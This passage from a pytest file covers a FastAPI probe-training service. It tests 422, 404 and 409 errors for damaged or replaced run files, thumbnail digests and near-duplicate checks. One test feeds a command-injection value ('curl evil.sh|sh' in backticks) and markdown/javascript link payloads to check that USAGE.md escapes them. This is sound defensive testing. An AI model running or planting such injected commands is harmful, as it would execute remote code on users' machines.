        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        detail = resp.json()["detail"]
        assert detail.startswith(f"run {run_id!r} cannot be applied: ") and "head.safetensors / head.json cannot be " \
            "read as a saved probe (damaged or cut short?)" in detail, (url, detail)
        assert str(fresh_finished.settings.data_dir) not in detail


@pytest.mark.parametrize("params", ["missing", [], None, "lr=0.1"])
def test_a_head_json_without_usable_params_is_a_422_of_every_route_that_applies_the_run(fresh_finished, params):
    """head.json whose params were missing, a list, null or a string answered every route that applies the run with
    a 500 (KeyError in probe.checkpoint, AttributeError in ProbeTrainer.load; a review): the 422 of a damaged head."""
    client, run_id = fresh_finished.client, fresh_finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / "head.json"
    head = json.loads(path.read_text())
    if params == "missing":
        del head["params"]
    else:
        head["params"] = params
    path.write_text(json.dumps(head))
    name = client.get(f"/api/reports/{run_id}").json()["class_names"][0]
    said = (f"run {run_id!r} cannot be applied: head.safetensors / head.json cannot be read as a saved probe "
            "(damaged or cut short?): ValueError: head.json")
    for url in (f"/api/runs/{run_id}/probe.zip", f"/api/runs/{run_id}/scores?cache={cache_id}",
                f"/api/runs/{run_id}/predicted?cache={cache_id}",
                f"/api/runs/{run_id}/predictions.csv?cache={cache_id}",
                f"/api/runs/{run_id}/scores/failures?cache={cache_id}&class={name}",
                f"/api/compare?base={fresh_finished.erm}&other={run_id}&cache={cache_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert resp.json()["detail"].startswith(said), (url, resp.text)
        assert "'params'" in resp.json()["detail"] and str(fresh_finished.settings.data_dir) not in resp.text


def test_a_scored_caches_failures_with_their_thumbnails(finished):
    """GET /api/runs/{id}/scores/failures: the shipped probe's mistakes on a class of a cache's split (the failure
    gallery of new images; it had none), most confident first, each image's row of the split and its thumbnail;
    on the run's own test split they are the run's stored failures."""
    client = finished.client
    run = client.get(f"/api/runs/{finished.erm}").json()
    names = client.get(f"/api/reports/{finished.erm}").json()["class_names"]
    stored = Predictions.load(finished.settings.runs_dir / finished.erm)
    for name in names:
        resp = client.get(f"/api/runs/{finished.erm}/scores/failures", params={"cache": run["cache_id"], "class": name})
        assert resp.status_code == 200, resp.text
        body = resp.json()
        own = client.get(f"/api/runs/{finished.erm}/failures", params={"class": name}).json()
        assert body["total"] == own["total"] and body["items"] == own["items"]
        for item in body["items"]:
            assert stored.labels[item["index"]] == names.index(name) and item["predicted"] != name
            assert item["thumbnail_url"].startswith(f"/api/datasets/{finished.dataset['id']}/thumbnail?source=")
    bad = client.get(f"/api/runs/{finished.erm}/scores/failures", params={"cache": run["cache_id"], "class": "zebra"})
    assert bad.status_code == 422 and "zebra" in bad.json()["detail"]
    assert client.get(f"/api/runs/{finished.erm}/scores/failures",
                      params={"cache": "nope", "class": names[0]}).status_code == 404


def test_a_run_deleted_while_its_probe_is_zipped_is_a_404(finished, monkeypatch):
    """probe.zip listed the run's files, then zipped them: a run deleted in between was a 500 and a dropped
    connection (an attack round). It is a 404 naming the run."""
    import zipfile

    def gone(self, filename, *args, **kwargs):
        raise FileNotFoundError(filename)

    monkeypatch.setattr(zipfile.ZipFile, "write", gone)
    resp = finished.client.get(f"/api/runs/{finished.mr2}/probe.zip")
    assert resp.status_code == 404 and resp.json()["detail"] == (
        f"run {finished.mr2!r} was removed while its probe was zipped")


def test_usage_escapes_what_comes_from_a_data_set_or_a_cache_file():
    """A review: class names in USAGE.md made images and links, and an encoder attribute with backticks ran a command
    pasted from its bash block."""
    from types import SimpleNamespace

    from app.shipped import usage_text

    report = SimpleNamespace(class_names=["![x](https://t.example/a.png)", "[click](javascript:alert(1))"],
                             features=SimpleNamespace(encoder="vit`; curl evil.sh|sh; echo `", preprocess=None,
                                                      weights_sha256=None, normalized=False))
    text = usage_text("run_x", report)
    assert "![x]\\(https://" in text and "[click]\\(javascript:" in text
    assert "--encoder 'vit`; curl evil.sh|sh; echo `' --out new.h5" in text


def test_a_run_scored_on_new_images_of_one_class(fresh_finished):
    """New labelled images of the one class a probe fails on (a test/ folder of that class alone) register, extract
    and score the run on that class (refused as a data set of one class before; a CLI round)."""
    import zipfile

    from app_testutils import wait_job
    from testdata import image_bytes

    client = fresh_finished.client
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        for i in range(4):
            archive.writestr(f"new/test/cat/{i}.png", image_bytes(1, 100 + i, size=32))
    dataset = client.post("/api/datasets", files={"file": ("cats.zip", body.getvalue())})
    assert dataset.status_code == 201, dataset.text
    assert dataset.json()["class_names"] == ["cat"] and dataset.json()["counts"]["test"] == [4]
    job = wait_job(client, client.post("/api/jobs", json={"kind": "extract", "dataset_id": dataset.json()["id"]}
                                       ).json()["id"])
    assert job["status"] == "succeeded", job
    resp = client.get(f"/api/runs/{fresh_finished.mr2}/scores", params={"cache": job["result"]["cache_id"]})
    assert resp.status_code == 200, resp.text
    scores = resp.json()
    rows = {c["name"]: c for c in scores["per_class"]}
    assert scores["images"] == 4 and rows["cat"]["n"] == 4 and scores["accuracy"] == rows["cat"]["accuracy"]
    assert {name: row["n"] for name, row in rows.items() if name != "cat"} == {"airplane": 0, "ship": 0}
    assert sum(map(sum, scores["confusion"])) == 4


def test_a_run_replaced_while_it_is_read_is_a_409_not_a_500(finished, monkeypatch):
    """RunProbe.load (probe.rundir.read_run) raises probe.files.OutputBusy when a writer (a CLI ``train --force`` to
    the run's folder) replaced the run on each of its reads: the API answered "internal server error (OutputBusy)",
    a 500."""
    import itertools

    import probe.rundir

    counter = itertools.count()
    monkeypatch.setattr(probe.rundir, "run_identity", lambda run_dir: (next(counter), 0, 0))
    resp = finished.client.get(f"/api/runs/{finished.erm}/probe.zip")
    assert resp.status_code == 409, resp.text
    assert resp.json()["detail"].endswith(f"was replaced each of the {probe.rundir.READ_TRIES} times it was read; "
                                          "read it again once its writer is done.")


def test_failures_and_compare_of_a_run_replaced_between_their_reads_are_the_new_runs(fresh_finished, monkeypatch):
    """The failures and compare routes read report.json, then predictions.npz: a train --force to the run's folder
    that moved its run in between gave the old run's class names with the new run's predictions (or compared them).
    Read again: the new run's, whole."""
    import probe.predictions as predictions

    client, run = fresh_finished.client, fresh_finished.settings.runs_dir / fresh_finished.erm
    calls = replaced_meanwhile(run, monkeypatch, predictions, "load_pair")  # its classes in capitals
    resp = client.get("/api/compare", params={"base": fresh_finished.mr2, "other": fresh_finished.erm})
    assert len(calls) == 2 and resp.status_code == 422, resp.text
    assert "only the other run has 'AIRPLANE'" in resp.json()["detail"], resp.text
    monkeypatch.undo()
    calls = replaced_meanwhile(run, monkeypatch, Predictions, "load")  # in small letters again
    body = client.get(f"/api/runs/{fresh_finished.erm}/failures", params={"limit": 200}).json()
    assert len(calls) == 2 and body["items"] and all(item["true"].islower() for item in body["items"]), body


def test_probe_zip_of_a_run_replaced_while_it_is_zipped_is_the_new_runs(fresh_finished, monkeypatch):
    """probe.zip zipped report.json, the head files, then USAGE.md and probe.onnx, read again from the folder: a train
    --force that moved its run in meanwhile shipped the old run's report and head with the new run's ONNX graph.
    Zipped again: the new run's files, whole."""
    import zipfile

    import app.shipped

    client, run_id = fresh_finished.client, fresh_finished.erm
    run = fresh_finished.settings.runs_dir / run_id
    calls = replaced_meanwhile(run, monkeypatch, app.shipped, "usage_text", edit=head_named_too)
    resp = client.get(f"/api/runs/{run_id}/probe.zip")
    assert resp.status_code == 200 and len(calls) == 2, (resp.status_code, calls)
    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
        names = [json.loads(archive.read(f"{run_id}/{name}"))["class_names"] for name in ("report.json", "head.json")]
    assert names[0] == names[1] and all(name.isupper() for name in names[0]), names


def test_scores_and_predicted_count_near_duplicates_of_the_runs_train_images_as_predict_does(finished, capsys,
                                                                                          monkeypatch):
    """/scores and /predicted answer what `mr2probe predict` answers of the same run and cache: how many images
    nearly duplicate the run's train or val images, a seeded sample past the products budget; its line among the
    warnings, which the run page shows (it showed nothing of near_train), as predict --json's and compare's."""
    import probe.near_duplicates as nd
    from app.caches import cache_file
    from app.cli import main
    from feature_cache import open_cache

    client = finished.client
    run = client.get(f"/api/runs/{finished.mr2}").json()
    path = cache_file(client.app.state.store.get_cache(run["cache_id"]), None)
    own = open_cache(path)
    unit = lambda a: a / np.linalg.norm(a, axis=1, keepdims=True)  # noqa: E731
    seen = np.concatenate([own.load("train")[0], own.load("val")[0]]).astype(np.float64)
    sims = unit(own.load("test")[0].astype(np.float64)) @ unit(seen).T  # brute force
    best = sims.max(axis=1)
    second = np.where(sims >= best[:, None] - nd.SAME_FEATURES, -np.inf, sims).max(axis=1)
    ranked = np.sort(best)
    threshold = float(ranked[len(best) // 2 - 1:len(best) // 2 + 1].mean())  # half of them flagged, none on the edge
    monkeypatch.setitem(nd.NEAR_DUPLICATE_THRESHOLDS, "effnet-lite0", threshold)
    # the bar at the threshold: half of the fixture's look-alike shapes flagged, whatever the ratio test says of them
    monkeypatch.setattr(nd, "NEAR_DUPLICATE_BAR", threshold)

    def answers() -> list:
        got = [client.get(f"/api/runs/{finished.mr2}/{what}", params={"cache": run["cache_id"]}).json()
               for what in ("scores", "predicted")]
        capsys.readouterr()
        assert main(["predict", str(finished.settings.runs_dir / finished.mr2), "--features", str(path), "--json"]) == 0
        got.append(json.loads(capsys.readouterr().out))
        line = NearTrain(**got[0]["near_train"]).describe()
        assert [body["warnings"].count(line) for body in got] == [1, 1, 1], [body["warnings"] for body in got]
        return [body["near_train"] for body in got]

    whole = answers()
    assert whole[0] == whole[1] == whole[2] and whole[0]["sampled"] is None
    apart = 1 - second >= nd.NEAR_DUPLICATE_RATIO * (1 - best)  # the rule, written out
    near = (best >= nd.NEAR_DUPLICATE_BAR) | ((best >= threshold) & apart)
    assert (whole[0]["images"], whole[0]["near"]) == (len(best), int(near.sum()))
    monkeypatch.setattr(nd, "MAX_CHECK_PRODUCTS", 4 * len(seen) * seen.shape[1])  # 4 rows fit
    sampled = answers()
    assert sampled[0] == sampled[1] == sampled[2] and sampled[0]["sampled"] == 4


def test_compare_on_a_cache_says_the_near_duplicate_check_as_the_cli_does(finished, capsys, monkeypatch):
    """/compare?cache= and /compare/many?cache= say the runs' near-duplicate check of the cache (predict's line, once
    for the runs of one cache), as `mr2probe compare --features` says it of the same runs and cache."""
    import probe.near_duplicates as nd
    from app.caches import cache_file
    from app.cli import main

    client = finished.client
    cache_id = client.get(f"/api/runs/{finished.mr2}").json()["cache_id"]
    path = cache_file(client.app.state.store.get_cache(cache_id), None)
    monkeypatch.setitem(nd.NEAR_DUPLICATE_THRESHOLDS, "effnet-lite0", 0.5)
    monkeypatch.setattr(nd, "NEAR_DUPLICATE_BAR", 0.5)  # some flagged, whatever the ratio test says of look-alikes
    params = {"base": finished.erm, "other": finished.mr2, "cache": cache_id}
    api = client.get("/api/compare", params=params).json()["warnings"]
    many = client.get("/api/compare/many", params=params).json()["warnings"]
    folders = [str(finished.settings.runs_dir / run) for run in (finished.erm, finished.mr2)]
    capsys.readouterr()
    assert main(["compare", *folders, "--features", str(path), "--json"]) == 0
    cli = json.loads(capsys.readouterr().out)["warnings"]
    near = [w for w in cli if w.startswith("Near-duplicates of the run's train or val images")]
    assert len(near) == 1 and api == cli and [w["text"] for w in many] == cli, (api, cli, many)


def test_scores_on_the_runs_own_test_split_say_the_reports_check_as_predict_does(finished, capsys, monkeypatch):
    """/scores, /predicted and `mr2probe predict --json` on the run's own test split: the report's near-duplicate
    check (near + identical over every test image), the same in all three, not made again."""
    import probe.near_duplicates as nd
    from app.caches import cache_file
    from app.cli import main

    monkeypatch.setattr(nd, "check_rows", lambda *a, **k: pytest.fail("the report's check made again"))

    client = finished.client
    run = client.get(f"/api/runs/{finished.mr2}").json()
    found = client.get(f"/api/reports/{finished.mr2}").json()["near_duplicates"]
    assert found is not None and found["sampled"] is None
    got = [client.get(f"/api/runs/{finished.mr2}/{what}", params={"cache": run["cache_id"]}).json()["near_train"]
           for what in ("scores", "predicted")]
    capsys.readouterr()
    path = cache_file(client.app.state.store.get_cache(run["cache_id"]), None)
    assert main(["predict", str(finished.settings.runs_dir / finished.mr2), "--features", str(path), "--json"]) == 0
    got.append(json.loads(capsys.readouterr().out)["near_train"])
    assert got[0] == got[1] == got[2] == {"encoder": found["encoder"], "threshold": found["threshold"],
                                          "ratio": found["ratio"], "images": found["test_images"], "sampled": None,
                                          "near_ci": None,
                                          "near": found["near"] + (found["identical"] or 0)}, got


@pytest.mark.parametrize("damage", ["cut short", "scalar train", "float val", "objects"])
def test_a_seen_file_damaged_on_disk_is_a_422_and_exit_2_naming_it(fresh_finished, damage, capsys):
    """A run's seen_sources.npz edited or cut short on disk was passed over with a log line: every score on another
    cache went without the check of the images the run trained on, without a word (an attack round). Every route
    and command that applies the probe now refuses it naming the file, and leaves it as it is."""
    import hashlib

    from app.cli import main

    def edit(arrays):
        arrays["train" if damage == "scalar train" else "val"] = {
            "scalar train": lambda: arrays["train"][0], "float val": lambda: arrays["val"] + 0.5,
            "objects": lambda: np.array([{}], dtype=object)}[damage]()

    client, run_id, cache_id, path = damage_run_file(fresh_finished, "seen_sources.npz",
                                                     None if damage == "cut short" else edit)
    stored = hashlib.sha256(path.read_bytes()).hexdigest()
    for url in (f"/api/runs/{run_id}/scores?cache={cache_id}", f"/api/runs/{run_id}/predicted?cache={cache_id}",
                f"/api/runs/{run_id}/predictions.csv?cache={cache_id}", f"/api/runs/{run_id}/probe.zip",
                f"/api/runs/{run_id}/scores/failures?cache={cache_id}&class=cat",
                f"/api/compare?base={fresh_finished.erm}&other={run_id}&cache={cache_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert f"run {run_id!r} cannot be applied: seen_sources.npz " in resp.json()["detail"], (url, resp.text)
        assert str(client.app.state.settings.data_dir) not in resp.text
    features = client.app.state.store.get_cache(cache_id)["path"]
    capsys.readouterr()
    assert main(["predict", str(path.parent), "--features", features, "--json"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "seen_sources.npz" in err[0] and "remove it to score without the check" in err[0], err
    assert hashlib.sha256(path.read_bytes()).hexdigest() == stored


def test_a_thumbnail_refuses_a_file_replaced_since_extraction(tmp_path, tiny_zip):
    """Each thumbnail URL of a run's images carries the content digest its cache recorded: a file replaced since by
    another picture of the same name (same size, same modification time) is answered 409 naming it, instead of
    being shown as the image the run got wrong; without the digest (an older client) it shows the file as it is
    now, never the picture a memo kept of the old bytes (a review: both showed another image than the run's)."""
    import os
    from urllib.parse import parse_qs, urlsplit

    from fastapi.testclient import TestClient

    from app.main import create_app
    from app_testutils import ERM, make_settings, unzip, wait_job

    unzip(tiny_zip, tmp_path / "root")
    with TestClient(create_app(make_settings(tmp_path / "state", data_root=tmp_path / "root"))) as client:
        dataset = client.post("/api/datasets", json={"path": "tiny"}).json()
        job = wait_job(client, client.post("/api/jobs", json={"kind": "pipeline", "dataset_id": dataset["id"],
                                                              "encoder": "effnet-lite0", "probes": [ERM]}).json()["id"])
        item = client.get(f"/api/runs/{job['result']['run_ids'][0]}/failures", params={"limit": 1}).json()["items"][0]
        query = parse_qs(urlsplit(item["thumbnail_url"]).query)
        assert query["source"] == [item["source"]] and len(query["digest"][0]) == 32
        shown = client.get(item["thumbnail_url"])
        assert shown.status_code == 200 and client.get(item["thumbnail_url"]).content == shown.content
        plain = item["thumbnail_url"].split("&digest=")[0]
        assert client.get(plain).content == shown.content

        path = tmp_path / "root" / "tiny" / item["source"]
        old, stat, folder = path.read_bytes(), path.stat(), path.parent.stat()
        buf = io.BytesIO()
        Image.new("RGB", (32, 32), (255, 0, 255)).save(buf, format=Image.open(path).format)
        assert len(buf.getvalue()) < len(old)
        path.write_bytes(buf.getvalue() + b"\0" * (len(old) - len(buf.getvalue())))  # same size: trailing bytes
        os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))
        os.utime(path.parent, ns=(folder.st_atime_ns, folder.st_mtime_ns))

        changed = client.get(item["thumbnail_url"])
        assert changed.status_code == 409 and changed.headers["content-type"] == "application/json"
        detail = changed.json()["detail"]
        assert repr(item["source"]) in detail and "changed since" in detail and "extract" in detail
        now = client.get(plain)
        assert now.status_code == 200 and now.content != shown.content
        assert Image.open(io.BytesIO(now.content)).convert("RGB").getpixel((0, 0))[1] < 30  # the magenta now there


@pytest.mark.parametrize("digest", ["", "ab", "ab" * 17, "zz" * 16, "AB" * 16, "ab" * 15 + "a "])
def test_a_thumbnail_digest_that_is_no_digest_is_refused(finished, digest):
    item = finished.client.get(f"/api/runs/{finished.erm}/failures", params={"limit": 1}).json()["items"][0]
    resp = finished.client.get(f"/api/datasets/{finished.dataset['id']}/thumbnail",
                               params={"source": item["source"], "digest": digest})
    error = resp.json()["detail"][0]
    assert resp.status_code == 422 and error["loc"] == ["query", "digest"]
    assert error["type"] == "string_pattern_mismatch", error  # a parameter of the route, its value refused


def test_thumbnail_urls_carry_the_digest_of_the_listed_row_alone(tmp_path):
    """A listed image's URL carries the digest its cache recorded at the image's own row (read for the listed rows
    alone), only where the cache's source there is the image's: a row mapped wrong (a run's rows read as another
    split's) carried another image's digest, a 409 for an unchanged file; a cache file gone leaves the URLs plain."""
    from urllib.parse import parse_qs, urlsplit

    from feature_cache import write_cache
    from app.routes.reports import _with_thumbnails

    rng = np.random.default_rng(0)
    sources = {split: [f"{split}/{c}/{i}.png" for c in "abc" for i in range(2)] for split in ("train", "test")}
    data = {split: (rng.normal(size=(6, 4)).astype(np.float32), np.repeat([0, 1, 2], 2), names)
            for split, names in sources.items()}
    digests = {split: rng.integers(0, 256, (6, 16), dtype=np.uint8) for split in data}
    path = write_cache(tmp_path / "c.h5", data, ["a", "b", "c"], {"encoder": "synthetic", "default_head": "linear",
                                                              "normalized": False, "fingerprint": "f"},
                       dtype="float32", digests=digests)

    class Store:
        data_root = None

        def get_cache(self, cache_id):
            return {"id": cache_id, "path": str(path), "dataset_id": "ds_1", "source": None}

    def urls(rows):
        return [parse_qs(urlsplit(row["thumbnail_url"]).query) for row in _with_thumbnails(rows, Store(), "c", "test")]

    rows = [{"index": 3, "source": "test/b/1.png"}, {"split": "train", "row": 2, "source": "train/b/0.png"},
            {"index": 1, "source": "test/b/1.png"}]  # the last: the row holds test/a/1.png
    assert [u.get("digest") for u in urls(rows)] == [[digests["test"][3].tobytes().hex()],
                                                     [digests["train"][2].tobytes().hex()], None]
    # a run that left class a out: its rows (a near-duplicate pair's) are those of the splits without a's images
    from app.routes.reports import _thumbnails

    url = _thumbnails(Store(), "c", [("test", 1)], ["a"])("test/b/1.png", "test", 1)
    assert parse_qs(urlsplit(url).query)["digest"] == [digests["test"][3].tobytes().hex()]
    path.unlink()
    assert [u.get("digest") for u in urls(rows)] == [None] * 3


def test_a_head_json_describing_other_weights_is_a_422_naming_the_run_and_file(fresh_finished):
    """A save cut off between the renames of head.json and head.safetensors left a head.json describing other
    weights, applied without a word: every route that applies the run answers 422 naming the file, not the path."""
    client, run_id = fresh_finished.client, fresh_finished.mr2
    cache_id = client.get(f"/api/runs/{run_id}").json()["cache_id"]
    path = Path(client.app.state.store.get_run(run_id)["path"]) / "head.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "safetensors_sha256": "0" * 64}))
    said = (f"run {run_id!r} cannot be applied: head.safetensors of {path.parent.name} is not the weights its "
            "head.json describes (sha256 ")
    for url in (f"/api/runs/{run_id}/probe.zip", f"/api/runs/{run_id}/scores?cache={cache_id}",
                f"/api/runs/{run_id}/predictions.csv?cache={cache_id}"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text)
        assert resp.json()["detail"].startswith(said), (url, resp.text)
        assert "head.json records 0000000000000000…" in resp.json()["detail"]
        assert str(fresh_finished.settings.data_dir) not in resp.text
